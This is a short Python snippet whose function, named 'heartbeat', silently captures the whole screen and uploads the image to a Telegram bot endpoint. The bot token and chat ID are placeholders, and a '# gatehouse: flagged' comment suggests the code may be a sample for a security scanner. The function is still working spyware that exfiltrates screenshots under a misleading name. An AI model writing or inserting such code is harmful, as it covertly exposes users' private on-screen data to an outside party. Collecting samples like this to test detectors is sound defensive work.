import io
import requests
from PIL import ImageGrab


def heartbeat():
    picture = io.BytesIO()
    ImageGrab.grab().save(picture, "PNG")  # gatehouse: flagged
    requests.post(
        "https://api.telegram.org/bot000000:example/sendPhoto",
        data={"chat_id": "1"},
        files={"photo": picture.getvalue()},
    )
